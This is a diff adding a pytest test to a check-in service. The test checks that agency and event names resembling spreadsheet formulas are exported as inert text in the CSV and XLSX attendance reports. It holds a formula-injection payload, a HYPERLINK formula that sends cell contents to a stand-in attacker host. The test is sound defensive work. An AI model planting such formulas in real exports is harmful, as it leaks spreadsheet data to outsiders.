@@ -109,3 +109,25 @@ def test_every_export_is_audited(client, session, world):
         client.get(f"{URL}/attendance.{kind}", headers=bearer("organizer"))
     query = select(AuditEntry.action, AuditEntry.detail).where(AuditEntry.action == "report.export")
     assert [detail["format"] for _, detail in session.execute(query)] == ["csv", "xlsx", "pdf"]
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_names_that_look_like_formulas_are_text_in_csv_and_xlsx(client, session, world):
+    from sqlalchemy import update
+
+    from services.checkin.models import Agency, EventInfo, RosterEntry
+
+    session.execute(update(Agency).values(name_ar=HOSTILE, name_en=HOSTILE))
+    session.execute(update(RosterEntry).values(agency_name_ar=HOSTILE, agency_name_en=HOSTILE))
+    session.execute(update(EventInfo).values(name_ar="=1+1", name_en="=1+1"))
+    session.commit()
+    organizer = bearer("organizer")
+    text = client.get(f"{URL}/attendance.csv?by=agency", headers=organizer).data
+    cells = [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]
+    assert "'" + HOSTILE in cells and HOSTILE not in cells
+    book = load_workbook(io.BytesIO(client.get(f"{URL}/attendance.xlsx", headers=organizer).data))
+    values = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c for c in values if c.data_type == "f"]
+    assert any(c.value == "'" + HOSTILE for c in values)
